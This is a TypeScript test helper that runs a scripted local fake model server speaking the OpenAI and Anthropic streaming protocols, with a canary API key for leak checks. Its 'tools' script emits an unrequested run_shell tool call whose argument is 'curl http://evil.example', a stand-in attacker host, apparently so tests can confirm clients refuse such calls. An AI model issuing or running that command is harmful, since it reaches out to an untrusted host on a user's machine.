import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { once } from 'node:events'
import type { ModelProvider } from '@plainflow/contract'

/** What a model's server was sent. */
export interface ModelCall {
  readonly path: string
  readonly headers: IncomingMessage['headers']
  readonly body: string
}

/** What it does about one call. */
export type Script =
  /** Says this, in pieces, as the protocol has it. */
  | { readonly say: string }
  /** Sends the first half of it, then drops the connection. */
  | { readonly cut: string }
  /** Refuses with this status; the body repeats the key, as providers do. */
  | { readonly status: number }
  /** Calls tools that nobody offered. */
  | { readonly tools: true }
  /** Never answers. */
  | { readonly hang: true }

export interface ModelServer {
  readonly url: string
  readonly calls: ModelCall[]
  /** Called for each request in turn. */
  script: (call: ModelCall) => Script
  /** What the server's environment has to say to be asked. */
  env(provider: ModelProvider, more?: Record<string, string>): Record<string, string>
  close(): Promise<void>
}

export const CANARY_KEY = 'sk-canary-4f1d2c9b7a'

/** A server on this machine that speaks the protocols of OpenAI (both) and Anthropic, as scripted. */
export async function startModelServer(): Promise<ModelServer> {
  const calls: ModelCall[] = []
  const server = createServer((request, response) => {
    receive(request).then(
      (call) => {
        calls.push(call)
        answer(call, own.script(call), response)
      },
      () => {}, // whoever asked has hung up before all was said
    )
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  const port = typeof address === 'object' ? address?.port : 0
  const url = `http://127.0.0.1:${port}/v1`
  const own: ModelServer = {
    url,
    calls,
    script: () => ({ status: 500 }),
    env: (provider, more = {}) => ({
      AI_PROVIDER: provider,
      AI_MODEL: 'scripted-1',
      AI_BASE_URL: url,
      AI_API_KEY: CANARY_KEY,
      ...more,
    }),
    async close() {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
  return own
}

async function receive(request: IncomingMessage): Promise<ModelCall> {
  let body = ''
  for await (const chunk of request.setEncoding('utf8')) body += String(chunk)
  return { path: request.url ?? '', headers: request.headers, body }
}

function answer(call: ModelCall, script: Script, response: ServerResponse): void {
  if ('hang' in script) return
  if ('status' in script) {
    const key = call.headers.authorization ?? call.headers['x-api-key']
    response.writeHead(script.status, { 'content-type': 'application/json' })
    response.end(JSON.stringify({ error: { message: `Not with ${String(key)}`, type: 'error' } }))
    return
  }
  const dialect = DIALECTS[call.path.replace('/v1', '')]
  if (!dialect) {
    response.writeHead(404).end()
    return
  }
  response.writeHead(200, { 'content-type': 'text/event-stream' })
  const events = 'tools' in script ? dialect.tools : dialect.text(piecesOf(script))
  for (const event of events) {
    const { name, data } = event
    if (name) response.write(`event: ${name}\n`)
    response.write(`data: ${typeof data === 'string' ? data : JSON.stringify(data)}\n\n`)
  }
  if (!('cut' in script)) response.end()
  // Written out first, so that the half is seen.
  else setTimeout(() => response.destroy(), 20)
}

const PIECE = 24

function piecesOf(script: { say: string } | { cut: string }): { pieces: string[]; whole: boolean } {
  const whole = 'say' in script
  const text = whole ? script.say : script.cut.slice(0, script.cut.length / 2)
  const pieces = text.match(new RegExp(`[^]{1,${PIECE}}`, 'gu')) ?? []
  return { pieces, whole }
}

interface ServerEvent {
  readonly name?: string
  readonly data: unknown
}

interface Dialect {
  text(said: { pieces: string[]; whole: boolean }): ServerEvent[]
  readonly tools: ServerEvent[]
}

const chunk = (delta: unknown, finish: string | null = null) => ({
  data: {
    id: 'c1',
    object: 'chat.completion.chunk',
    created: 1,
    model: 'scripted-1',
    choices: [{ index: 0, delta, finish_reason: finish }],
  },
})

const SOUP = { name: 'run_shell', arguments: '{"command":"curl http://evil.example"}' }

/** OpenAI's chat completions, which compatible servers speak. */
const chat: Dialect = {
  text: ({ pieces, whole }) => [
    chunk({ role: 'assistant', content: '' }),
    ...pieces.map((content) => chunk({ content })),
    ...(whole ? [chunk({}, 'stop'), { data: '[DONE]' }] : []),
  ],
  tools: [
    chunk({
      role: 'assistant',
      tool_calls: [{ index: 0, id: 't1', type: 'function', function: SOUP }],
    }),
    chunk({}, 'tool_calls'),
    { data: '[DONE]' },
  ],
}

const item = { type: 'message', id: 'm1', role: 'assistant', status: 'in_progress', content: [] }
const typed = (data: { type: string }): ServerEvent => ({ name: data.type, data })
const response = { id: 'r1', object: 'response', created_at: 1, model: 'scripted-1', output: [] }
const usage = { input_tokens: 1, output_tokens: 1, total_tokens: 2 }
const completed = (status: string) =>
  typed(Object.assign({ type: `response.${status}` }, { response: { ...response, status, usage } }))
const created = typed(
  Object.assign({ type: 'response.created' }, { response: { ...response, status: 'in_progress' } }),
)

/** OpenAI's responses. */
const responses: Dialect = {
  text: ({ pieces, whole }) => [
    created,
    typed(Object.assign({ type: 'response.output_item.added' }, { output_index: 0, item })),
    ...pieces.map((delta) =>
      typed(
        Object.assign(
          { type: 'response.output_text.delta' },
          { item_id: 'm1', output_index: 0, content_index: 0, delta },
        ),
      ),
    ),
    ...(whole
      ? [
          typed(Object.assign({ type: 'response.output_item.done' }, { output_index: 0, item })),
          completed('completed'),
        ]
      : []),
  ],
  tools: [
    created,
    typed(
      Object.assign(
        { type: 'response.output_item.done' },
        {
          output_index: 0,
          item: { type: 'function_call', id: 'f1', call_id: 'f1', status: 'completed', ...SOUP },
        },
      ),
    ),
    completed('completed'),
  ],
}

const opened = typed(
  Object.assign(
    { type: 'message_start' },
    {
      message: {
        id: 'a1',
        type: 'message',
        role: 'assistant',
        model: 'scripted-1',
        content: [],
        stop_reason: null,
        usage: { input_tokens: 1, output_tokens: 1 },
      },
    },
  ),
)
const closed = (reason: string) => [
  typed(Object.assign({ type: 'content_block_stop' }, { index: 0 })),
  typed(
    Object.assign(
      { type: 'message_delta' },
      { delta: { stop_reason: reason }, usage: { output_tokens: 1 } },
    ),
  ),
  typed({ type: 'message_stop' }),
]
const toolStart = (name: string) =>
  typed(
    Object.assign(
      { type: 'content_block_start' },
      { index: 0, content_block: { type: 'tool_use', id: 't1', name, input: {} } },
    ),
  )
const toolDelta = (partial_json: string) =>
  typed(
    Object.assign(
      { type: 'content_block_delta' },
      { index: 0, delta: { type: 'input_json_delta', partial_json } },
    ),
  )

/** Anthropic's messages: an object is asked for as the input of a tool. */
const messages: Dialect = {
  text: ({ pieces, whole }) => [
    opened,
    toolStart('json'),
    ...pieces.map(toolDelta),
    ...(whole ? closed('tool_use') : []),
  ],
  tools: [opened, toolStart(SOUP.name), toolDelta(SOUP.arguments), ...closed('tool_use')],
}

const DIALECTS: Readonly<Record<string, Dialect>> = {
  '/chat/completions': chat,
  '/responses': responses,
  '/messages': messages,
}
